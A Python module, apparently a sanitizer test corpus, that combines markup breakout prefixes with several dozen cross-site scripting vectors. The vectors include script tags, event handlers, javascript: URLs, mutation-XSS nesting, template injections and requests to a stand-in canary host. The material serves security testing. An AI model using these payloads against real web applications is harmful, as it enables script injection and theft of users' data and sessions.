"""Strangers' text that tries to become a program: ways to run script, each out of every place text may stand in."""

from __future__ import annotations

from itertools import product

RUN = "alert(1)"
CANARY = "http://canary.example/x"
# ways to break out of the markup around the text
OUT = ("", '">', "'>", "</title>", "</textarea></select>", "--></style>", "]]></script>", "`>\"'><!--><p ")
# OWASP's filter evasion cheat sheet, the mutation vectors of DOMPurify's tests, and what reaches out without script
RUNS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt\x0c>{RUN}</sCrIpT\x0c>",
    f"<img src=x onerror={RUN}>",
    f"<img src='{CANARY}'>",
    f"<svg onload={RUN}>",
    f"<svg><script href=data:,{RUN} />",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=20>x</text></a></svg>",
    f"<body onload={RUN}><body onpageshow={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video src=x onerror={RUN}></video><audio src={CANARY} autoplay></audio>",
    f"<iframe src=javascript:{RUN}></iframe><iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<object data='{CANARY}'></object><embed src='{CANARY}'>",
    f"<link rel=stylesheet href={CANARY}><link rel=prefetch href={CANARY}>",
    f"<meta http-equiv=refresh content='0;url={CANARY}'>",
    f"<style>@import '{CANARY}';body{{background:url({CANARY})}}</style>",
    f"<div style=\"background:url({CANARY})\" onmouseover={RUN}>x</div>",
    f"<base href='{CANARY}'><form action={CANARY}><button autofocus>go</button></form>",
    f"<a href=\"javascript:{RUN}\" autofocus onfocus={RUN}>x</a>",
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={RUN}>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    f"<template><img src=x onerror={RUN}></template><slot onslotchange={RUN}>",
    f"<marquee onstart={RUN}>x</marquee><select autofocus onfocus={RUN}>",
    f"&lt;img src=x onerror={RUN}&gt;&#60;script&#62;{RUN}&#60;/script&#62;",
    f"{{{{constructor.constructor('{RUN}')()}}}}${{{RUN}}}<%= {RUN} %>{{% {RUN} %}}",
    f"javascript:{RUN}//\u2028{RUN}\u202e<\u200bimg src=x onerror={RUN}>",
)  # fmt: skip
PAYLOADS = tuple(out + run for out, run in product(OUT, RUNS))
